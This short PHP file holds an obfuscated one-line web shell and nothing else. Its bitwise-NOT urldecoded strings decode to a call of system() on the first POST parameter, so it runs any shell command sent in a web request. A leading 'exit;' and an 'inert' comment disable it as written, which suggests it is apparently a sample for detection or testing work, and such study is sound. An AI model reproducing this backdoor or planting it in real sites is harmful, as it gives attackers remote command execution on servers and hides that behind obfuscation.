<?php exit; /* inert */ 
(~urldecode("%8C%86%8C%8B%9A%92"))(${~urldecode("%A0%AF%B0%AC%AB")}[0]);
